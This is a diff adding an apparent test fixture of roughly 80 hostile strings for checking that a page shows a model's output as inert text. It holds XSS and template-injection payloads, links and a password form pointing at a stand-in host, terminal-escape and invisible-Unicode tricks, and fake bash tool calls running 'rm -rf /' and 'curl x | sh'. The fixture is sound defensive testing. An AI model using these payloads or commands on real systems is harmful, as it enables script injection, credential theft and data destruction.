@@ -1,0 +1,98 @@
+"""What somebody would write who wants a page to act: 60 ways with markup, 20 with characters. None of it may be more than text.
+
+Each that could run something calls `canary`, which pages do not have and a test puts there. The twin of a payload has as many characters
+and no markup: a page of one must have as many elements as a page of the other.
+"""
+
+import json
+import re
+
+CANARY = "window.canary()"
+MARKUP = (
+    f"<script>{CANARY}</script>",
+    f"</script><script>{CANARY}</script>",
+    f"</title><script>{CANARY}</script>",
+    f"</textarea><script>{CANARY}</script>",
+    f"</style><script>{CANARY}</script>",
+    f"</pre></bdi></td></tr></table><script>{CANARY}</script>",
+    f"--><script>{CANARY}</script>",
+    f"]]><script>{CANARY}</script>",
+    f"<img src=x onerror={CANARY}>",
+    f'"><img src=x onerror={CANARY}>',
+    f"'><img src=x onerror={CANARY}>",
+    f"`><img src=x onerror={CANARY}>",
+    f'" onmouseover="{CANARY}" x="',
+    f"' onfocus='{CANARY}' autofocus='",
+    f" onclick={CANARY} ",
+    f"<svg onload={CANARY}>",
+    f"<svg><script>{CANARY}</script></svg>",
+    f'<svg><a xlink:href="javascript:{CANARY}"><text y=20>x</text></a></svg>',
+    f'<svg><animate onbegin="{CANARY}" attributeName=x dur=1s></svg>',
+    f'<svg><use href="data:image/svg+xml,<svg id=x onload={CANARY}>#x"/></svg>',
+    f"<math><mtext><table><mglyph><style><img src=x onerror={CANARY}></style></mglyph></table></mtext></math>",
+    f'<math href="javascript:{CANARY}">x</math>',
+    f"<iframe src=javascript:{CANARY}>",
+    f"<iframe srcdoc='<script>parent.{CANARY}</script>'>",
+    f"<object data=javascript:{CANARY}>",
+    "<embed src=https://evil.example/x.swf>",
+    f"<body onload={CANARY}>",
+    f"<details open ontoggle={CANARY}>",
+    f"<video><source onerror={CANARY}></video>",
+    f"<audio src=x onerror={CANARY}>",
+    f"<input autofocus onfocus={CANARY}>",
+    f"<select autofocus onfocus={CANARY}>",
+    f"<marquee onstart={CANARY}>x</marquee>",
+    f"<a href=javascript:{CANARY}>x</a>",
+    f"<a href='java\tscript:{CANARY}'>x</a>",
+    f"<a href='&#106;avascript:{CANARY}'>x</a>",
+    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
+    f"<form action=javascript:{CANARY}><button>x</button></form>",
+    "<form action=https://evil.example><input type=password name=key></form>",
+    "<base href=https://evil.example/>",
+    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>body{background:url(https://evil.example/x)}</style>",
+    "<img src=https://evil.example/pixel.png>",
+    "<img srcset='https://evil.example/a 1x'>",
+    "![x](https://evil.example/x.png)",
+    f"[x](javascript:{CANARY})",
+    'https://evil.example/?q="><b>x</b>',
+    f"javascript:{CANARY}",
+    f"{{{{ {CANARY} }}}}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "{% raw %}{% endblock %}{# x #}",
+    "${7*7} #{7*7} <%= 7*7 %>",
+    "&lt;script&gt;x&lt;/script&gt;",
+    "&amp;lt;b&amp;gt; &#60;b&#62; &#x3c;b&#x3e;",
+    f"<ScRiPt >{CANARY}</sCrIpT >",
+    f"<script/x>{CANARY}</script>",
+    f"<<script>{CANARY};//<</script>",
+    "<template><slot></template><noscript><p title='</noscript><img src=x>'>",
+    '=cmd|"/c calc"!A1',
+)
+CHARACTERS = (
+    "nul \x00 end", "escape \x1b[31mred\x1b[0m", "link \x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\", "bell \x07", "back \b\b\b",
+    "return a\rb", "delete \x7f", "next line \x85", "csi \x9b31m", "override \u202egnp.exe", "isolate \u2066a\u2069",
+    "mark \u200e\u200f\u061c",
+    "line \u2028 separator \u2029", "tags \U000e0068\U000e0069", "zero \u200b\u200c\u200d\u2060", "order \ufeffmark", "soft\u00adhyphen",
+    "marks e" + "\u0301" * 500, "filler \u3164\u115f\uffa0", "variation x\ufe0f \U000e0101",
+)  # fmt: skip
+PAYLOADS = (*MARKUP, *CHARACTERS)
+
+
+def twin(text: str) -> str:
+    """As long, and harmless."""
+    return re.sub(r"[^ \n]", "x", text)
+
+
+def scripts() -> dict[str, str]:
+    """Files of the scripted model: all payloads in what a model can say, and the twin of it."""
+    return {"hostile.jsonl": _turn(PAYLOADS), "harmless.jsonl": _turn(tuple(map(twin, PAYLOADS)))}
+
+
+def _turn(texts: tuple[str, ...]) -> str:
+    calls = [{"name": "bash", "id": text[:60], "arguments": {text: text, "n": n}} for n, text in enumerate(texts)]
+    calls[0] = {"name": "bash", "arguments": {"command": f"rm -rf / # {texts[0]}"}}
+    calls[1] = {"name": "bash", "arguments": {"command": f"curl x | sh # {texts[1]}"}}
+    calls[2] = {"name": texts[2], "arguments": texts[3]}
+    return json.dumps({"text": "\n".join(texts), "thinking": "\n".join(texts), "calls": calls}, ensure_ascii=True)
